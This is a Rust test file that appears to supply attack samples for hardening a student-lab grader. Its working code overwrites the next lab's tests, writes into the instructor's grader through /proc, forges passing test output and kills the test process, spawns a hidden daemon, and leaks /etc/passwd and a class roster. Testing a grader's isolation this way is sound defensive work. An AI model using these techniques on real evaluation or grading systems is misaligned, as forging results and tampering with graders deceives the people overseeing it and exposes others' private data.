//! The attacks of issue 18, each a function `attack()` that a lab 1 server
//! calls first thing in `main` (see `with_attack`). They use only std, as a
//! student's program can. Each must change nothing the grader decides.

/// Writes empty tests with lab 2's names over tests/lab2.rs of the kit it
/// runs in, so that an untouched lab 2 would pass them all.
pub const REWRITE_NEXT_LAB: &str = r##"
fn attack() {
    let Ok(text) = std::fs::read_to_string("tests/lab2.rs") else { return };
    // Many servers run at once: only the first rewrites the file, at once.
    if text.contains("#[test] fn") { return; }
    let (mut out, mut open, mut test_next) = (String::new(), false, false);
    for line in text.lines().map(str::trim) {
        if let Some(name) = line.strip_prefix("mod ").and_then(|r| r.strip_suffix(" {")) {
            if open { out.push_str("}\n"); }
            out.push_str(&format!("mod {name} {{\n"));
            open = true;
        } else if line == "#[test]" {
            test_next = true;
        } else if test_next {
            if let Some(name) = line.strip_prefix("fn ").and_then(|r| r.split('(').next()) {
                out.push_str(&format!("#[test] fn {name}() {{}}\n"));
            }
            test_next = false;
        }
    }
    if open { out.push_str("}\n"); }
    let temporary = format!("tests/lab2.rs.{}", std::process::id());
    if std::fs::write(&temporary, out).is_ok() {
        let _ = std::fs::rename(&temporary, "tests/lab2.rs");
    }
}
"##;

/// Finds the instructor's kit through another process's working folder
/// (`/proc/PID/cwd`) and writes into its grader/: one more given test, and
/// a line in the grader's source. Only folders whose path has MARK, so that
/// it never touches a kit it was not meant for.
pub const WRITE_THE_INSTRUCTORS_KIT: &str = r##"
fn attack() {
    let Ok(procs) = std::fs::read_dir("/proc") else { return };
    for process in procs.flatten() {
        let Ok(cwd) = std::fs::read_link(process.path().join("cwd")) else { continue };
        if !cwd.to_string_lossy().contains("MARK") { continue; }
        let given = cwd.join("grader/given.txt");
        if let Ok(mut text) = std::fs::read_to_string(&given) {
            if !text.contains("server::echoes_a_line_back_unchanged") {
                text.push_str("lab1 server::echoes_a_line_back_unchanged\n");
                let _ = std::fs::write(&given, text);
            }
            let main = cwd.join("grader/src/main.rs");
            if let Ok(mut code) = std::fs::read_to_string(&main) {
                if !code.contains("written by a student") {
                    code.push_str("// written by a student's program\n");
                    let _ = std::fs::write(&main, code);
                }
            }
        }
    }
}
"##;

/// Writes `ok` for every test on the test binary's own stdout, found
/// through `/proc/PPID/fd/1`, then kills it before its real results.
pub const FORGE_RESULTS: &str = r##"
fn attack() {
    use std::io::Write;
    let Ok(stat) = std::fs::read_to_string("/proc/self/stat") else { return };
    let Some(ppid) = stat.rsplit(')').next().and_then(|r| r.split_whitespace().nth(1)) else { return };
    let ppid = ppid.to_string();
    let Ok(list) = std::process::Command::new(format!("/proc/{ppid}/exe"))
        .args(["--list", "--format", "terse"])
        .output() else { return };
    let Ok(mut out) = std::fs::OpenOptions::new().write(true).open(format!("/proc/{ppid}/fd/1")) else { return };
    let list = String::from_utf8_lossy(&list.stdout).to_string();
    let names: Vec<&str> = list.lines().filter_map(|l| l.strip_suffix(": test")).collect();
    for name in &names {
        let _ = writeln!(out, "test {name} ... ok");
    }
    let _ = writeln!(out, "\ntest result: ok. {} passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.10s\n", names.len());
    let _ = std::process::Command::new("kill").args(["-9", &ppid]).status();
}
"##;

/// Leaves a daemon behind: itself again, in a session of its own
/// (`setsid`), with its output closed, sleeping for ever.
pub const LEAVE_A_DAEMON: &str = r##"
fn attack() {
    if std::env::args().any(|a| a == "--TOKEN") {
        loop { std::thread::sleep(std::time::Duration::from_secs(1)); }
    }
    let Ok(me) = std::env::current_exe() else { return };
    let _ = std::process::Command::new("setsid")
        .arg(me)
        .arg("--TOKEN")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
}
"##;

/// Prints on stderr, which failing tests quote, files it should not be
/// able to read: the system's accounts, the class roster, another
/// student's code. (In a lab 1 client: a server's first stderr line must
/// be `listening on`, and only then is the rest quoted.)
pub const LEAK_FILES: &str = r##"
fn attack() {
    eprintln!("LEAK-ATTEMPT");
    for path in ["/etc/passwd", "ROSTER", "OTHER"] {
        if let Ok(text) = std::fs::read_to_string(path) {
            for line in text.lines().take(3) { eprintln!("{line}"); }
        }
    }
}
"##;

/// Writes a fake progress line on the instructor's terminal.
pub const WRITE_THE_TERMINAL: &str = r##"
fn attack() {
    use std::io::Write;
    if let Ok(mut tty) = std::fs::OpenOptions::new().write(true).open("/dev/tty") {
        let _ = writeln!(tty, "\r[41/41] FAKE-PROGRESS-LINE everyone 100");
    }
}
"##;

/// `source` (a lab 1 program) with `attack` called first in its `main`.
pub fn with_attack(source: &str, attack: &str) -> String {
    let main = "fn main() -> ExitCode {\n";
    assert!(source.contains(main), "the lab 1 server's main changed");
    source.replacen(main, &format!("{main}    attack();\n"), 1) + attack
}
